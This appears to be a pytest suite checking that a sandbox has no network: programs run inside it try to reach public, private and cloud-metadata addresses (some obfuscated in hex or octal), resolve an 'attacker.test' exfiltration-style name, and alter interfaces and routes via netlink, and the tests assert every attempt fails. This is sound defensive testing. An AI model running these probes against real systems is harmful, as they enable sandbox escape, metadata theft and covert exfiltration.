"""L. Network: a sandbox without one reaches nothing, and nobody reaches it."""

# ruff: noqa: E501  (the programs that run inside are text)
from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import oracles
import pytest
from hostile_fixtures import Make, Weak
from probes import report

from paracle_sandbox.backends.native.backend import NativeBackend
from paracle_sandbox.sandbox.sandbox import Sandbox

CONNECT = """
import errno, json, socket
answers = {}
for host, port in %r:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, kind) as s:
            s.settimeout(2)
            try:
                s.connect((host, port))
                s.send(b"hello")
                answers["%%s %%s" %% (host, kind.name)] = "OK"
            except TimeoutError:
                answers["%%s %%s" %% (host, kind.name)] = "TIMEOUT"
            except OSError as error:
                answers["%%s %%s" %% (host, kind.name)] = errno.errorcode.get(error.errno, repr(error))
for family, protocol in ((socket.AF_INET, 1), (socket.AF_INET6, 58)):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(family, kind, protocol) as s:
                s.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0", ("1.1.1.1" if family == socket.AF_INET else "2606:4700::1111", 0))
                answers["icmp %%s %%s" %% (family, kind)] = "OK"
        except OSError as error:
            answers["icmp %%s %%s" %% (family, kind)] = errno.errorcode.get(error.errno, repr(error))
print(json.dumps(answers))
"""
UNREACHABLE = {"ENETUNREACH", "EPERM", "EACCES", "EAFNOSUPPORT", "ECONNREFUSED", "EADDRNOTAVAIL",
               "EHOSTUNREACH", "ENETDOWN", "EINVAL"}  # fmt: skip


def _gateways() -> list[str]:
    found = []
    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
        gateway = line.split()[2]
        if gateway != "00000000":
            found.append(socket.inet_ntoa(bytes.fromhex(gateway)[::-1]))
    return found


@pytest.mark.case("L01", "L03")
async def test_no_address_is_reached(sandbox: Sandbox, native: NativeBackend) -> None:
    targets = [(host, 80) for host in (
        "1.1.1.1", "8.8.8.8", "192.0.2.1", "2606:4700:4700::1111", "fe80::1", "ff02::1", "224.0.0.251",
        "255.255.255.255", "10.0.0.1", "172.17.0.1", "192.168.1.1", "169.254.169.254", "fd00:ec2::254",
        "100.100.100.200", "::ffff:169.254.169.254", "::ffff:1.1.1.1", "0xa9fea9fe", "2852039166",
        "0251.0376.0251.0376", "169.254.43518", *oracles.host_addresses()[1:], *_gateways())]  # fmt: skip
    answers = await report(sandbox, CONNECT % targets)
    assert {name: a for name, a in answers.items() if a not in UNREACHABLE} == {}
    # No packet left by any interface: there is none, and the loopback carried nothing out.
    init = native.init_pid(sandbox.sandbox_id)
    devices = Path(f"/proc/{init}/net/dev").read_text().splitlines()[2:]
    assert [line.split(":")[0].strip() for line in devices] == ["lo"]
    assert len(Path(f"/proc/{init}/net/route").read_text().splitlines()) <= 1


@pytest.mark.case("L02")
async def test_services_of_the_host_are_not_reached(sandbox: Sandbox) -> None:
    wanted = [(socket.AF_INET, kind, (host, 0)) for host in ("0.0.0.0", *oracles.host_addresses())
              for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)]  # fmt: skip
    if socket.has_ipv6 and Path("/proc/net/if_inet6").exists():
        wanted.append((socket.AF_INET6, socket.SOCK_STREAM, ("::", 0)))
    with oracles.listening(*wanted) as listeners:
        targets = []
        for listener in listeners:
            port = listener.address[1]
            targets += [(host, port) for host in ("127.0.0.1", "127.0.0.53", "0.0.0.0", "::1", "::",
                        "localhost", *oracles.host_addresses())]  # fmt: skip
        code = CONNECT % sorted(set(targets))
        answers = await report(sandbox, code, timeout=100)
        # A datagram to the sandbox's own loopback may be sent; it counts where it arrives.
        assert {n: a for n, a in answers.items() if a == "OK" and n.endswith("STREAM")} == {}
        assert not oracles.wait_until(lambda: any(each.hits for each in listeners), 0.3)
        subprocess.run([sys.executable, "-c", code], check=True, capture_output=True, timeout=60)
        assert oracles.wait_until(lambda: all(each.hits for each in listeners[:2]))


RESOLVE = """
import json, socket, struct
answers = {}
for name in ("metadata.google.internal", "6578666c.attacker.test", "host.docker.internal", "example.com",
             "gateway.docker.internal", "printer.local"):
    try:
        answers[name] = socket.getaddrinfo(name, 80)[0][4][0]
    except OSError as error:
        answers[name] = "refused"
query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x08attacker\\x04test\\0\\0\\x10\\0\\x01"
for server in (("127.0.0.53", 53), ("127.0.0.1", %d), ("8.8.8.8", 53), ("1.1.1.1", 853), ("224.0.0.251", 5353)):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        try:
            s.sendto(query, server)
            s.recvfrom(512)
            answers[str(server)] = "answered"
        except OSError:
            answers[str(server)] = "refused"
print(json.dumps(answers))
"""


@pytest.mark.case("L04", "L03")
async def test_no_name_is_resolved(sandbox: Sandbox) -> None:
    with oracles.listening((socket.AF_INET, socket.SOCK_DGRAM, ("0.0.0.0", 0))) as (server,):
        answers = await report(sandbox, RESOLVE % server.address[1], timeout=100)
        assert set(answers.values()) == {"refused"}
        assert not oracles.wait_until(lambda: server.hits, 0.3)
        subprocess.run(
            [sys.executable, "-c", RESOLVE.replace('"metadata', '"localhost') % server.address[1]],
            capture_output=True, timeout=110, check=False,
        )  # fmt: skip
        assert oracles.wait_until(lambda: server.hits)


@pytest.mark.case("L06")
async def test_no_configuration_means_no_network(make: Make, native: NativeBackend) -> None:
    sandbox = await make()  # the configuration does not mention a network
    init = native.init_pid(sandbox.sandbox_id)
    assert oracles.namespaces_of(init)["net"] != os.readlink("/proc/self/ns/net")
    shown = await report(sandbox, "import json, socket; print(json.dumps(socket.if_nameindex()))")
    assert [name for _, name in shown] == ["lo"]


LISTEN = """
import socket, time
held = []
for host in ("0.0.0.0", "127.0.0.1"):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, %d if host == "0.0.0.0" else 0))
    s.listen()
    held.append(s)
print("listening", flush=True)
time.sleep(60)
"""


@pytest.mark.case("L08")
async def test_ports_opened_inside_are_not_the_hosts(make: Make) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    first, second = await make(), await make()
    ready = [asyncio.Event(), asyncio.Event()]
    running = [
        await box.start_code(LISTEN % port, on_stdout=lambda _, e=event: e.set())
        for box, event in zip((first, second), ready, strict=True)
    ]
    for event in ready:  # both have the same port, as they are separate
        await asyncio.wait_for(event.wait(), 20)
    for host in oracles.host_addresses():
        with socket.socket() as s:
            s.settimeout(1)
            assert s.connect_ex((host, port)) != 0
    assert f":{port:04X} " not in Path("/proc/net/tcp").read_text()
    for command in running:
        await command.kill()


@pytest.mark.case("L08")
async def test_low_ports_and_their_own_loopback(sandbox: Sandbox) -> None:
    code = """
import json, socket, threading
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen()
def serve():
    with server.accept()[0] as c:
        c.sendall(b"ok")
threading.Thread(target=serve, daemon=True).start()
with socket.create_connection(server.getsockname()) as c:
    print(json.dumps(c.recv(10).decode()))
"""
    assert await report(sandbox, code) == "ok"


NETLINK = """
import errno, json, os, socket, struct
def ask(kind, flags, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.bind((0, 0))
        message = struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body
        s.sendto(message, (0, 0))
        answer = s.recv(65536)
        code = struct.unpack_from("=IHHIIi", answer)[-1]
        return errno.errorcode.get(-code, "OK") if struct.unpack_from("=IH", answer)[1] == 2 else "OK"
link = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH8s", 12, 3, b"evil0\\0\\0\\0")
info = struct.pack("=HH", 16, 18) + struct.pack("=HH8s", 10, 1, b"dummy\\0")
route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
address = struct.pack("=BBBBI", 2, 24, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([10, 9, 8, 7]))
create = 0x5 | 0x400 | 0x200
answers = {"link": ask(16, create, link + info), "route": ask(24, create, route),
           "address": ask(20, create, address), "down": ask(16, 5, struct.pack("=BxHiII", 0, 0, 1, 0, 1))}
for name, protocol in (("audit", 9), ("uevent", 15), ("sock_diag", 4), ("netfilter", 12), ("generic", 16)):
    try:
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
        answers[name] = "OK"
    except OSError as error:
        answers[name] = errno.errorcode[error.errno]
print(json.dumps(answers))
"""


@pytest.mark.case("L09")
async def test_the_network_cannot_be_changed(
    sandbox: Sandbox, weak: Weak, native: NativeBackend
) -> None:
    before = oracles.host_state()["routes"]
    answers = await report(sandbox, NETLINK)
    assert set(answers.values()) <= {"EPERM", "EACCES", "EPROTONOSUPPORT"}, answers
    init = native.init_pid(sandbox.sandbox_id)
    assert [line.split(":")[0].strip() for line in
            Path(f"/proc/{init}/net/dev").read_text().splitlines()[2:]] == ["lo"]  # fmt: skip
    assert oracles.host_state()["routes"] == before
    control = weak.report(NETLINK)
    assert control["address"] == "OK" and control["sock_diag"] == "OK"


@pytest.mark.case("L07")
async def test_peers_do_not_see_each_other(make: Make) -> None:
    first, second = await make(), await make()
    answers = [
        json.dumps(
            await report(box, "import json; print(json.dumps(open('/proc/net/arp').read()))")
        )
        for box in (first, second)
    ]
    assert all(len(json.loads(answer).splitlines()) == 1 for answer in answers)
